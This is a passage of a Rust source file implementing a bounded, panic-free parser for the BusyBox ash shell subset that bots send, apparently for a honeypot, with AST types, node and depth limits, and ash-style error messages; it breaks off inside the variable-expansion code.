//! The shell language as BusyBox ash accepts it, the subset bots type: simple commands
//! with assignments and redirections, pipelines, `&&` `||`, lists (`;` `&` newline),
//! `for`, `while`/`until`, `if`, `{ }` and `( )`; words with quotes, backslashes, `$var`,
//! `${...}`, `$(...)`, `` `...` `` and `$((...))`.
//!
//! The input is whatever a client sent, as bytes (not UTF-8). The parser never panics,
//! reads the input once without backtracking, and keeps to [`Limits`]: nesting deeper
//! than `max_depth` is [`ParseErrorKind::TooDeep`], more than `max_nodes` nodes is
//! [`ParseErrorKind::TooLarge`]. Recursion follows nesting, so it is bounded too.
//!
//! Not supported (ash has them, bots do not use them): `case`, here-documents (`<<`) and
//! function definitions parse to [`ParseErrorKind::Unsupported`]. A `\`-newline inside a
//! keyword (`do\⏎ne`) makes it a word.

use std::fmt;

/// Bounds on what one parse may build.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Limits {
    /// The deepest nesting of compound commands (`if`, loops, `{ }`, `( )`),
    /// substitutions and double quotes. Values above [`DEPTH_CEILING`] act as it, so the
    /// recursion stays far from the end of a thread's stack.
    pub max_depth: usize,
    /// The most nodes (items, commands, words, word parts) a script may have.
    pub max_nodes: usize,
}

/// The deepest nesting any [`Limits`] allows.
pub const DEPTH_CEILING: usize = 64;

impl Default for Limits {
    fn default() -> Self {
        Limits {
            max_depth: 16,
            max_nodes: 4096,
        }
    }
}

/// A list: items separated by `;`, `&` or newline.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Script(pub Vec<Item>);

/// One entry of a list.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Item {
    /// What to run.
    pub and_or: AndOr,
    /// It ended with `&`: run it without waiting.
    pub background: bool,
}

/// Pipelines joined by `&&` and `||`, run left to right.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AndOr {
    /// The pipeline that always runs.
    pub first: Pipeline,
    /// The others, each with what decides whether it runs.
    pub rest: Vec<(Connector, Pipeline)>,
}

/// How two pipelines are joined.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Connector {
    /// `&&`: run the next if this one succeeded.
    And,
    /// `||`: run the next if this one failed.
    Or,
}

/// `a | b | c`, perhaps negated with `!`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Pipeline {
    /// It began with `!`: its status is inverted.
    pub bang: bool,
    /// At least one command.
    pub commands: Vec<Command>,
}

/// One command of a pipeline.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Command {
    /// Assignments, words and redirections.
    Simple(Simple),
    /// `for var in items; do body; done`.
    For {
        /// The loop variable's name.
        var: Vec<u8>,
        /// The words after `in`; `None` without `in`, which means `"$@"`.
        items: Option<Vec<Word>>,
        /// The loop body.
        body: Script,
        /// Redirections after `done`; they apply to the whole loop.
        redirects: Vec<Redirect>,
    },
    /// `while cond; do body; done` or `until ...`.
    While {
        /// `until`: loop while `cond` fails.
        until: bool,
        /// The condition.
        cond: Script,
        /// The loop body.
        body: Script,
        /// Redirections after `done`; they apply to the whole loop, as in
        /// `while read x; do ..; done < f`.
        redirects: Vec<Redirect>,
    },
    /// `if c; then b; elif c; then b; else b; fi`.
    If {
        /// Each `if` or `elif` condition with its body, in order; at least one.
        branches: Vec<(Script, Script)>,
        /// The `else` body.
        otherwise: Option<Script>,
        /// Redirections after `fi`.
        redirects: Vec<Redirect>,
    },
    /// `{ body; }` or `( body )`.
    Group {
        /// What it runs.
        body: Script,
        /// `( )`: in a subshell.
        subshell: bool,
        /// Redirections after `}` or `)`.
        redirects: Vec<Redirect>,
    },
}

/// A simple command: `A=1 B=2 cmd arg >f`. At least one of its parts is non-empty.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Simple {
    /// `name=value` before the command name.
    pub assigns: Vec<(Vec<u8>, Word)>,
    /// The command name and its arguments; empty for `x=1` or `>f` alone.
    pub words: Vec<Word>,
    /// Redirections, wherever they stood, in order.
    pub redirects: Vec<Redirect>,
}

/// One redirection: `[fd]op target`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The number before the operator (`2>`), at most 9 digits as in ash; `None` means
    /// the operator's default (0 for `<` forms, 1 for `>` forms).
    pub fd: Option<u32>,
    /// The operator.
    pub op: RedirOp,
    /// The file, or for `>&` `<&` the fd number or `-`.
    pub target: Word,
}

/// A redirection operator.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirOp {
    /// `>`
    Out,
    /// `>>`
    Append,
    /// `<`
    In,
    /// `>&`, as in `2>&1`.
    DupOut,
    /// `<&`
    DupIn,
    /// `<>`
    ReadWrite,
    /// `>|`
    Clobber,
}

/// A word: the pieces it is built of, joined without spaces.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Word(pub Vec<WordPart>);

/// A piece of a word. Adjacent `Literal`s, and adjacent `Quoted`s, are merged.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WordPart {
    /// Unquoted text, backslash escapes already resolved; it may be globbed.
    Literal(Vec<u8>),
    /// Text from `'...'` or a backslash-escaped byte, or the plain text inside `"..."`:
    /// never split or globbed.
    Quoted(Vec<u8>),
    /// `"..."`: holds `Quoted` (its plain text), `Var`, `CmdSubst` and `Arith`. May be
    /// empty (`""`, an empty argument).
    DoubleQuoted(Vec<WordPart>),
    /// `$name` `$1` `$?` `$$` `$#` `$@` `$*` `$!` `$-` `$0`: the name. For `${...}` the
    /// whole text between the braces, operators included (`${x:-y}` gives `x:-y`), up to
    /// the first `}`.
    Var(Vec<u8>),
    /// `$(...)` or `` `...` ``.
    CmdSubst(Script),
    /// `$((...))`: the text between the parentheses, unparsed.
    Arith(Vec<u8>),
}

/// Why a parse failed, and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// What went wrong.
    pub kind: ParseErrorKind,
    /// The byte offset in the input where it went wrong (at most the input's length).
    pub offset: usize,
}

/// What went wrong.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseErrorKind {
    /// A token where it cannot stand.
    Unexpected {
        /// What was found.
        found: Token,
        /// The keyword or operator that was needed there, if one was.
        expecting: Option<&'static str>,
    },
    /// `'` or `"` without its end.
    UnterminatedQuote,
    /// `` ` `` without its end.
    UnterminatedBackquote,
    /// `${` without `}`.
    MissingBrace,
    /// `${}`.
    BadSubstitution,
    /// `$((` without `))`.
    MissingArith,
    /// `for` not followed by a name.
    BadForVariable,
    /// Nesting deeper than [`Limits::max_depth`].
    TooDeep,
    /// More nodes than [`Limits::max_nodes`].
    TooLarge,
    /// Something ash has and this parser does not.
    Unsupported(Unsupported),
}

/// A token as ash names it in a syntax error.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Token {
    /// The end of the input.
    EndOfFile,
    /// A newline.
    Newline,
    /// A redirection operator, fd digits included.
    Redirection,
    /// A word that is not a keyword there.
    Word,
    /// An operator: `;` `;;` `&` `&&` `|` `||` `(` `)`.
    Operator(&'static str),
    /// A keyword in command position.
    Keyword(&'static str),
}

/// Parts of ash's language this parser leaves out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Unsupported {
    /// `case ... esac`.
    Case,
    /// `<<` and `<<-`.
    HereDoc,
    /// `name() ...`.
    Function,
}

impl fmt::Display for Token {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // ash quotes operators and keywords, not the token classes.
        match self {
            Token::EndOfFile => f.write_str("end of file"),
            Token::Newline => f.write_str("newline"),
            Token::Redirection => f.write_str("redirection"),
            Token::Word => f.write_str("word"),
            Token::Operator(s) | Token::Keyword(s) => write!(f, "\"{s}\""),
        }
    }
}

impl ParseError {
    /// What BusyBox ash prints after `-sh: ` for this error. Errors ash does not have
    /// get a message it could print: `out of memory` for the caps, and for the
    /// unsupported forms the syntax error an older ash without them would give.
    pub fn message(&self) -> String {
        let syntax = |s: &str| format!("syntax error: {s}");
        match &self.kind {
            ParseErrorKind::Unexpected { found, expecting } => match expecting {
                Some(e) => syntax(&format!("unexpected {found} (expecting \"{e}\")")),
                None => syntax(&format!("unexpected {found}")),
            },
            ParseErrorKind::UnterminatedQuote => syntax("unterminated quoted string"),
            ParseErrorKind::UnterminatedBackquote => syntax("EOF in backquote substitution"),
            ParseErrorKind::MissingBrace => syntax("missing '}'"),
            ParseErrorKind::BadSubstitution => syntax("bad substitution"),
            ParseErrorKind::MissingArith => syntax("missing '))'"),
            ParseErrorKind::BadForVariable => syntax("bad for loop variable"),
            ParseErrorKind::TooDeep | ParseErrorKind::TooLarge => "out of memory".into(),
            ParseErrorKind::Unsupported(Unsupported::Case) => syntax("unexpected \"case\""),
            ParseErrorKind::Unsupported(Unsupported::HereDoc) => syntax("unexpected redirection"),
            ParseErrorKind::Unsupported(Unsupported::Function) => syntax("unexpected \"(\""),
        }
    }
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.message())
    }
}

impl std::error::Error for ParseError {}

/// Parses a whole script. Empty input, or only blanks and comments, is an empty script.
pub fn parse(input: &[u8], limits: &Limits) -> Result<Script, ParseError> {
    let mut p = Parser {
        input,
        pos: 0,
        base: 0,
        depth: 0,
        max_depth: limits.max_depth.min(DEPTH_CEILING),
        nodes: 0,
        max_nodes: limits.max_nodes,
    };
    p.script()
}

impl Script {
    /// Its nodes as [`Limits::max_nodes`] counts them: items, commands, words (assignment
    /// values and redirection targets included) and word parts, nested ones too.
    pub fn node_count(&self) -> usize {
        self.0
            .iter()
            .map(|item| {
                let pipes = std::iter::once(&item.and_or.first)
                    .chain(item.and_or.rest.iter().map(|(_, p)| p));
                1 + pipes
                    .flat_map(|p| &p.commands)
                    .map(Command::node_count)
                    .sum::<usize>()
            })
            .sum()
    }

    /// Its nesting as [`Limits::max_depth`] counts it: each compound command,
    /// substitution and double-quoted part is one level.
    pub fn depth(&self) -> usize {
        self.0
            .iter()
            .flat_map(|item| {
                std::iter::once(&item.and_or.first).chain(item.and_or.rest.iter().map(|(_, p)| p))
            })
            .flat_map(|p| &p.commands)
            .map(Command::depth)
            .max()
            .unwrap_or(0)
    }
}

impl Command {
    fn node_count(&self) -> usize {
        let words = |ws: &[Word]| ws.iter().map(Word::node_count).sum::<usize>();
        let redirs = |rs: &[Redirect]| rs.iter().map(|r| r.target.node_count()).sum::<usize>();
        1 + match self {
            Command::Simple(s) => {
                s.assigns.iter().map(|(_, w)| w.node_count()).sum::<usize>()
                    + words(&s.words)
                    + redirs(&s.redirects)
            }
            Command::For {
                items,
                body,
                redirects,
                ..
            } => words(items.as_deref().unwrap_or(&[])) + body.node_count() + redirs(redirects),
            Command::While {
                cond,
                body,
                redirects,
                ..
            } => cond.node_count() + body.node_count() + redirs(redirects),
            Command::If {
                branches,
                otherwise,
                redirects,
            } => {
                branches
                    .iter()
                    .map(|(c, b)| c.node_count() + b.node_count())
                    .sum::<usize>()
                    + otherwise.as_ref().map_or(0, Script::node_count)
                    + redirs(redirects)
            }
            Command::Group {
                body, redirects, ..
            } => body.node_count() + redirs(redirects),
        }
    }

    fn depth(&self) -> usize {
        let words = |ws: &[Word]| ws.iter().map(Word::depth).max().unwrap_or(0);
        let redirs = |rs: &[Redirect]| rs.iter().map(|r| r.target.depth()).max().unwrap_or(0);
        // A compound's redirections come after its end, outside its level.
        match self {
            Command::Simple(s) => s
                .assigns
                .iter()
                .map(|(_, w)| w.depth())
                .max()
                .unwrap_or(0)
                .max(words(&s.words))
                .max(redirs(&s.redirects)),
            Command::For {
                items,
                body,
                redirects,
                ..
            } => (1 + words(items.as_deref().unwrap_or(&[])).max(body.depth()))
                .max(redirs(redirects)),
            Command::While {
                cond,
                body,
                redirects,
                ..
            } => (1 + cond.depth().max(body.depth())).max(redirs(redirects)),
            Command::If {
                branches,
                otherwise,
                redirects,
            } => {
                let inner = branches
                    .iter()
                    .map(|(c, b)| c.depth().max(b.depth()))
                    .chain(otherwise.iter().map(Script::depth))
                    .max()
                    .unwrap_or(0);
                (1 + inner).max(redirs(redirects))
            }
            Command::Group {
                body, redirects, ..
            } => (1 + body.depth()).max(redirs(redirects)),
        }
    }
}

impl Word {
    fn node_count(&self) -> usize {
        1 + parts_node_count(&self.0)
    }

    fn depth(&self) -> usize {
        parts_depth(&self.0)
    }
}

fn parts_node_count(parts: &[WordPart]) -> usize {
    parts
        .iter()
        .map(|p| {
            1 + match p {
                WordPart::DoubleQuoted(inner) => parts_node_count(inner),
                WordPart::CmdSubst(s) => s.node_count(),
                _ => 0,
            }
        })
        .sum()
}

fn parts_depth(parts: &[WordPart]) -> usize {
    parts
        .iter()
        .map(|p| match p {
            WordPart::DoubleQuoted(inner) => 1 + parts_depth(inner),
            WordPart::CmdSubst(s) => 1 + s.depth(),
            _ => 0,
        })
        .max()
        .unwrap_or(0)
}

/// Reserved words, recognised only in command position and only when a delimiter follows.
const KEYWORDS: &[&str] = &[
    "!", "case", "do", "done", "elif", "else", "esac", "fi", "for", "if", "in", "then", "until",
    "while", "{", "}",
];

/// Keywords that start a command; any other ends the list before it.
const STARTERS: &[&str] = &["!", "case", "for", "if", "until", "while", "{"];

/// Bytes that end an unquoted word.
fn is_delim(c: u8) -> bool {
    matches!(
        c,
        b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>'
    )
}

fn is_name(s: &[u8]) -> bool {
    match s.split_first() {
        Some((&c, rest)) => {
            (c.is_ascii_alphabetic() || c == b'_')
                && rest.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_')
        }
        None => false,
    }
}

struct Parser<'a> {
    input: &'a [u8],
    pos: usize,
    /// Where `input` starts in the text the caller gave (non-zero inside backquotes), for
    /// error offsets.
    base: usize,
    depth: usize,
    max_depth: usize,
    nodes: usize,
    max_nodes: usize,
}

type Res<T> = Result<T, ParseError>;

impl Parser<'_> {
    fn error(&self, kind: ParseErrorKind, at: usize) -> ParseError {
        ParseError {
            kind,
            offset: self.base + at,
        }
    }

    /// Counts one node against the cap.
    fn node(&mut self) -> Res<()> {
        self.nodes += 1;
        if self.nodes > self.max_nodes {
            return Err(self.error(ParseErrorKind::TooLarge, self.pos));
        }
        Ok(())
    }

    /// Goes one level deeper. No `leave` on errors: they end the parse.
    fn enter(&mut self) -> Res<()> {
        self.depth += 1;
        if self.depth > self.max_depth {
            return Err(self.error(ParseErrorKind::TooDeep, self.pos));
        }
        Ok(())
    }

    fn leave(&mut self) {
        self.depth -= 1;
    }

    /// Skips `\`-newlines, which vanish everywhere but in single quotes and comments.
    fn skip_cont(&mut self) {
        while self.input[self.pos..].starts_with(b"\\\n") {
            self.pos += 2;
        }
    }

    /// The next byte, past any `\`-newlines.
    fn peek(&mut self) -> Option<u8> {
        self.skip_cont();
        self.input.get(self.pos).copied()
    }

    fn at(&self, i: usize) -> Option<u8> {
        self.input.get(self.pos + i).copied()
    }

    /// Skips blanks and a comment, and newlines too if `newlines`.
    fn skip_space(&mut self, newlines: bool) {
        loop {
            match self.peek() {
                Some(b' ' | b'\t') => self.pos += 1,
                Some(b'\n') if newlines => self.pos += 1,
                Some(b'#') => {
                    let rest = &self.input[self.pos..];
                    self.pos += rest.iter().position(|&c| c == b'\n').unwrap_or(rest.len());
                }
                _ => return,
            }
        }
    }

    /// The keyword at the cursor, if the next word is one.
    fn peek_keyword(&mut self) -> Option<&'static str> {
        self.skip_cont();
        let rest = &self.input[self.pos..];
        KEYWORDS.iter().copied().find(|kw| {
            rest.starts_with(kw.as_bytes()) && rest.get(kw.len()).is_none_or(|&c| is_delim(c))
        })
    }

    /// The length of a redirection's fd digits at the cursor (1 to 9 digits right before
    /// `<` or `>`), or 0.
    fn fd_digits(&self) -> usize {
        let rest = &self.input[self.pos..];
        let n = rest
            .iter()
            .take(10)
            .take_while(|c| c.is_ascii_digit())
            .count();
        match rest.get(n) {
            Some(b'<' | b'>') if (1..=9).contains(&n) => n,
            _ => 0,
        }
    }

    /// The token at the cursor, for an error.
    fn found(&mut self) -> Token {
        let Some(c) = self.peek() else {
            return Token::EndOfFile;
        };
        let two = self.at(1) == Some(c);
        match c {
            b'\n' => Token::Newline,
            b'&' => Token::Operator(if two { "&&" } else { "&" }),
            b'|' => Token::Operator(if two { "||" } else { "|" }),
            b';' => Token::Operator(if two { ";;" } else { ";" }),
            b'(' => Token::Operator("("),
            b')' => Token::Operator(")"),
            b'<' | b'>' => Token::Redirection,
            _ if self.fd_digits() > 0 => Token::Redirection,
            _ => self.peek_keyword().map_or(Token::Word, Token::Keyword),
        }
    }

    fn unexpected(&mut self, expecting: Option<&'static str>) -> ParseError {
        let found = self.found();
        self.error(ParseErrorKind::Unexpected { found, expecting }, self.pos)
    }

    fn script(&mut self) -> Res<Script> {
        let s = self.list()?;
        self.skip_space(true);
        if self.pos < self.input.len() {
            return Err(self.unexpected(None));
        }
        Ok(s)
    }

    /// Items until the end, `)`, or a keyword that cannot start a command. May be empty.
    fn list(&mut self) -> Res<Script> {
        let mut items = Vec::new();
        loop {
            self.skip_space(true);
            match self.peek() {
                None | Some(b')') => break,
                _ => {}
            }
            if self
                .peek_keyword()
                .is_some_and(|kw| !STARTERS.contains(&kw))
            {
                break;
            }
            let and_or = self.and_or()?;
            self.node()?;
            self.skip_space(false);
            let c = self.peek();
            let single = c.is_some() && self.at(1) != c;
            let (background, more) = match c {
                Some(b'&') if single => (true, true),
                Some(b';') if single => (false, true),
                Some(b'\n') => (false, true),
                _ => (false, false),
            };
            items.push(Item { and_or, background });
            if !more {
                break;
            }
            self.pos += 1;
        }
        Ok(Script(items))
    }

    /// A list that must have an item, as every compound command's parts must. At the end
    /// of the input ash names what should close it (`expecting`).
    fn body(&mut self, expecting: &'static str) -> Res<Script> {
        let s = self.list()?;
        if s.0.is_empty() {
            let at_end = self.peek().is_none();
            return Err(self.unexpected(Some(expecting).filter(|_| at_end)));
        }
        Ok(s)
    }

    fn and_or(&mut self) -> Res<AndOr> {
        let first = self.pipeline()?;
        let mut rest = Vec::new();
        loop {
            self.skip_space(false);
            let conn = match (self.peek(), self.at(1)) {
                (Some(b'&'), Some(b'&')) => Connector::And,
                (Some(b'|'), Some(b'|')) => Connector::Or,
                _ => break,
            };
            self.pos += 2;
            self.skip_space(true);
            rest.push((conn, self.pipeline()?));
        }
        Ok(AndOr { first, rest })
    }

    fn pipeline(&mut self) -> Res<Pipeline> {
        self.skip_space(false);
        let bang = self.peek_keyword() == Some("!");
        if bang {
            self.pos += 1;
        }
        let mut commands = vec![self.command()?];
        loop {
            self.skip_space(false);
            if self.peek() != Some(b'|') || self.at(1) == Some(b'|') {
                break;
            }
            self.pos += 1;
            self.skip_space(true);
            commands.push(self.command()?);
        }
        Ok(Pipeline { bang, commands })
    }

    fn command(&mut self) -> Res<Command> {
        self.skip_space(false);
        let cmd = match self.peek_keyword() {
            Some(kw @ ("if" | "while" | "until" | "for" | "{")) => {
                self.pos += kw.len();
                self.enter()?;
                let cmd = match kw {
                    "if" => self.if_rest()?,
                    "for" => self.for_rest()?,
                    "{" => self.group_rest(false)?,
                    _ => self.while_rest(kw == "until")?,
                };
                self.leave();
                cmd
            }
            Some("case") => {
                return Err(self.error(ParseErrorKind::Unsupported(Unsupported::Case), self.pos))
            }
            Some(_) => return Err(self.unexpected(None)),
            None if self.peek() == Some(b'(') => {
                self.pos += 1;
                self.enter()?;
                let cmd = self.group_rest(true)?;
                self.leave();
                cmd
            }
            None => return self.simple(),
        };
        self.node()?;
        let redirs = self.redirects()?;
        let mut cmd = cmd;
        match &mut cmd {
            Command::For { redirects, .. }
            | Command::While { redirects, .. }
            | Command::If { redirects, .. }
            | Command::Group { redirects, .. } => *redirects = redirs,
            Command::Simple(_) => {}
        }
        Ok(cmd)
    }

    /// Consumes `kw` if it is next (after blanks), or fails expecting it.
    fn expect_kw(&mut self, kw: &'static str) -> Res<()> {
        self.skip_space(false);
        if self.peek_keyword() != Some(kw) {
            return Err(self.unexpected(Some(kw)));
        }
        self.pos += kw.len();
        Ok(())
    }

    fn if_rest(&mut self) -> Res<Command> {
        let mut branches = Vec::new();
        let mut otherwise = None;
        loop {
            let cond = self.body("then")?;
            self.expect_kw("then")?;
            branches.push((cond, self.body("fi")?));
            self.skip_space(false);
            match self.peek_keyword() {
                Some("elif") => self.pos += 4,
                Some("else") => {
                    self.pos += 4;
                    otherwise = Some(self.body("fi")?);
                    self.expect_kw("fi")?;
                    break;
                }
                Some("fi") => {
                    self.pos += 2;
                    break;
                }
                _ => return Err(self.unexpected(Some("fi"))),
            }
        }
        Ok(Command::If {
            branches,
            otherwise,
            redirects: Vec::new(),
        })
    }

    fn while_rest(&mut self, until: bool) -> Res<Command> {
        let cond = self.body("do")?;
        self.expect_kw("do")?;
        let body = self.body("done")?;
        self.expect_kw("done")?;
        Ok(Command::While {
            until,
            cond,
            body,
            redirects: Vec::new(),
        })
    }

    fn for_rest(&mut self) -> Res<Command> {
        self.skip_space(false);
        let rest = &self.input[self.pos..];
        let n = rest.iter().position(|&c| is_delim(c)).unwrap_or(rest.len());
        if !is_name(&rest[..n]) {
            return Err(self.error(ParseErrorKind::BadForVariable, self.pos));
        }
        let var = rest[..n].to_vec();
        self.pos += n;
        self.skip_space(true);
        let mut items = None;
        if self.peek_keyword() == Some("in") {
            self.pos += 2;
            let mut words = Vec::new();
            loop {
                self.skip_space(false);
                match self.word()? {
                    Some(w) => words.push(w),
                    None => break,
                }
            }
            items = Some(words);
        }
        self.skip_space(false);
        if matches!(self.peek(), Some(b'\n') | Some(b';')) && self.at(1) != Some(b';') {
            self.pos += 1;
        }
        self.skip_space(true);
        self.expect_kw("do")?;
        let body = self.body("done")?;
        self.expect_kw("done")?;
        Ok(Command::For {
            var,
            items,
            body,
            redirects: Vec::new(),
        })
    }

    /// After `{` or `(`.
    fn group_rest(&mut self, subshell: bool) -> Res<Command> {
        let body = self.body(if subshell { ")" } else { "}" })?;
        if subshell {
            self.skip_space(false);
            if self.peek() != Some(b')') {
                return Err(self.unexpected(Some(")")));
            }
            self.pos += 1;
        } else {
            self.expect_kw("}")?;
        }
        Ok(Command::Group {
            body,
            subshell,
            redirects: Vec::new(),
        })
    }

    fn redirects(&mut self) -> Res<Vec<Redirect>> {
        let mut rs = Vec::new();
        loop {
            self.skip_space(false);
            match self.redirect()? {
                Some(r) => rs.push(r),
                None => return Ok(rs),
            }
        }
    }

    fn simple(&mut self) -> Res<Command> {
        let mut s = Simple::default();
        loop {
            self.skip_space(false);
            if let Some(r) = self.redirect()? {
                s.redirects.push(r);
                continue;
            }
            let Some(w) = self.word()? else { break };
            if s.words.is_empty() {
                match self.split_assign(w) {
                    Ok(assign) => s.assigns.push(assign),
                    Err(w) => s.words.push(w),
                }
            } else {
                s.words.push(w);
            }
        }
        if s.assigns.is_empty() && s.words.is_empty() && s.redirects.is_empty() {
            return Err(self.unexpected(None));
        }
        if s.words.len() == 1
            && s.assigns.is_empty()
            && self.peek() == Some(b'(')
            && self.at(1) == Some(b')')
        {
            return Err(self.error(ParseErrorKind::Unsupported(Unsupported::Function), self.pos));
        }
        self.node()?;
        Ok(Command::Simple(s))
    }

    /// `name=value` split off a word whose unquoted start is a name and `=`.
    fn split_assign(&mut self, mut w: Word) -> Result<(Vec<u8>, Word), Word> {
        let Some(WordPart::Literal(text)) = w.0.first_mut() else {
            return Err(w);
        };
        let Some(eq) = text.iter().position(|&c| c == b'=') else {
            return Err(w);
        };
        if !is_name(&text[..eq]) {
            return Err(w);
        }
        let value = text.split_off(eq + 1);
        text.truncate(eq);
        let name = std::mem::take(text);
        if value.is_empty() {
            w.0.remove(0);
            self.nodes -= 1; // the part is gone
        } else {
            w.0[0] = WordPart::Literal(value);
        }
        Ok((name, w))
    }

    fn redirect(&mut self) -> Res<Option<Redirect>> {
        self.skip_cont();
        let start = self.pos;
        let digits = self.fd_digits();
        let fd = match digits {
            0 => None,
            n => std::str::from_utf8(&self.input[start..start + n])
                .ok()
                .and_then(|s| s.parse().ok()),
        };
        let p = start + digits;
        let next = self.input.get(p + 1).copied();
        let (op, len) = match (self.input.get(p), next) {
            (Some(b'>'), Some(b'>')) => (RedirOp::Append, 2),
            (Some(b'>'), Some(b'&')) => (RedirOp::DupOut, 2),
            (Some(b'>'), Some(b'|')) => (RedirOp::Clobber, 2),
            (Some(b'>'), _) => (RedirOp::Out, 1),
            (Some(b'<'), Some(b'<')) => {
                return Err(self.error(ParseErrorKind::Unsupported(Unsupported::HereDoc), p))
            }
            (Some(b'<'), Some(b'&')) => (RedirOp::DupIn, 2),
            (Some(b'<'), Some(b'>')) => (RedirOp::ReadWrite, 2),
            (Some(b'<'), _) => (RedirOp::In, 1),
            _ => return Ok(None),
        };
        self.pos = p + len;
        self.skip_space(false);
        match self.word()? {
            Some(target) => Ok(Some(Redirect { fd, op, target })),
            None => Err(self.unexpected(None)),
        }
    }

    /// Adds text to a word's parts, merged into the last part if it is of the same kind.
    fn push_text(&mut self, parts: &mut Vec<WordPart>, quoted: bool, text: &[u8]) -> Res<()> {
        match (parts.last_mut(), quoted) {
            (Some(WordPart::Literal(t)), false) | (Some(WordPart::Quoted(t)), true) => {
                t.extend_from_slice(text)
            }
            _ => {
                self.node()?;
                parts.push(if quoted {
                    WordPart::Quoted(text.to_vec())
                } else {
                    WordPart::Literal(text.to_vec())
                });
            }
        }
        Ok(())
    }

    fn push_part(&mut self, parts: &mut Vec<WordPart>, part: WordPart) -> Res<()> {
        self.node()?;
        parts.push(part);
        Ok(())
    }

    /// An unquoted-context word at the cursor, or `None` if a delimiter or the end is
    /// there.
    fn word(&mut self) -> Res<Option<Word>> {
        let mut parts = Vec::new();
        while let Some(c) = self.peek() {
            match c {
                _ if is_delim(c) => break,
                b'\\' => {
                    // Not a `\`-newline: peek skipped those.
                    match self.at(1) {
                        Some(e) => {
                            self.pos += 2;
                            self.push_text(&mut parts, true, &[e])?;
                        }
                        None => {
                            self.pos += 1;
                            self.push_text(&mut parts, true, b"\\")?;
                        }
                    }
                }
                b'\'' => {
                    let open = self.pos;
                    let rest = &self.input[open + 1..];
                    let Some(n) = rest.iter().position(|&c| c == b'\'') else {
                        return Err(self.error(ParseErrorKind::UnterminatedQuote, open));
                    };
                    let text = &rest[..n];
                    self.pos = open + n + 2;
                    // `''` still makes a part: it is an empty argument.
                    self.push_text(&mut parts, true, text)?;
                }
                b'"' => {
                    let part = self.double_quoted()?;
                    self.push_part(&mut parts, part)?;
                }
                b'$' => self.dollar(&mut parts, false)?,
                b'`' => {
                    let part = self.backquote(false)?;
                    self.push_part(&mut parts, part)?;
                }
                _ => {
                    // A run of plain bytes at once.
                    let rest = &self.input[self.pos..];
                    let n = rest
                        .iter()
                        .position(|&c| is_delim(c) || b"\\'\"$`".contains(&c))
                        .unwrap_or(rest.len());
                    let text = &self.input[self.pos..self.pos + n];
                    self.pos += n;
                    self.push_text(&mut parts, false, text)?;
                }
            }
        }
        if parts.is_empty() {
            return Ok(None);
        }
        self.node()?;
        Ok(Some(Word(parts)))
    }

    /// After `"`: up to the closing `"`.
    fn double_quoted(&mut self) -> Res<WordPart> {
        let open = self.pos;
        self.pos += 1;
        self.enter()?;
        let mut parts = Vec::new();
        loop {
            match self.peek() {
                None => return Err(self.error(ParseErrorKind::UnterminatedQuote, open)),
                Some(b'"') => {
                    self.pos += 1;
                    break;
                }
                Some(b'\\') => match self.at(1) {
                    Some(e @ (b'$' | b'`' | b'"' | b'\\')) => {
                        self.pos += 2;
                        self.push_text(&mut parts, true, &[e])?;
                    }
                    _ => {
                        self.pos += 1;
                        self.push_text(&mut parts, true, b"\\")?;
                    }
                },
                Some(b'$') => self.dollar(&mut parts, true)?,
                Some(b'`') => {
                    let part = self.backquote(true)?;
                    self.push_part(&mut parts, part)?;
                }
                Some(_) => {
                    let rest = &self.input[self.pos..];
                    let n = rest
                        .iter()
                        .position(|&c| b"\\\"$`".contains(&c))
                        .unwrap_or(rest.len());
                    let text = &self.input[self.pos..self.pos + n];
                    self.pos += n;
                    self.push_text(&mut parts, true, text)?;
                }
            }
        }
        self.leave();
        Ok(WordPart::DoubleQuoted(parts))
    }

    /// At `$`: a variable, a substitution, or a plain `$`.
    fn dollar(&mut self, parts: &mut Vec<WordPart>, quoted: bool) -> Res<()> {
        let dollar = self.pos;
        self.pos += 1;
        match self.peek() {
            Some(b'(') if self.at(1) == Some(b'(') => {
                self.pos += 2;
                let start = self.pos;
                let mut open = 0usize;
                loop {
                    match self.input.get(self.pos) {
                        None => return Err(self.error(ParseErrorKind::MissingArith, dollar)),
                        Some(b'(') => open += 1,
                        Some(b')') if open > 0 => open -= 1,
                        Some(b')') if self.at(1) == Some(b')') => break,
                        Some(b')') => return Err(self.error(ParseErrorKind::MissingArith, dollar)),
                        _ => {}
                    }
                    self.pos += 1;
                }
                let text = self.input[start..self.pos].to_vec();
                self.pos += 2;
                self.push_part(parts, WordPart::Arith(text))
            }
            Some(b'(') => {
                self.pos += 1;
                self.enter()?;
                let body = self.list()?;
                self.skip_space(true);
                if self.peek() != Some(b')') {
                    return Err(self.unexpected(Some(")")));
                }
                self.pos += 1;
                self.leave();
                self.push_part(parts, WordPart::CmdSubst(body))
            }
            Some(b'{') => {
                let rest = &self.input[self.pos + 1..];
                let Some(n) = rest.iter().position(|&c| c == b'}') else {
                    return Err(self.error(ParseErrorKind::MissingBrace, dollar));
                };
                if n == 0 {
                    return Err(self.error(ParseErrorKind::BadSubstitution, dollar));
                }
                let name = rest[..n].to_vec();
                self.pos += n + 2;
                self.push_part(parts, WordPart::Var(name))
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let rest = &self.input[self.pos..];
                let n = rest
                    .iter()
                    .position(|&c| !(c.is_ascii_alphanumeric() || c == b'_'))
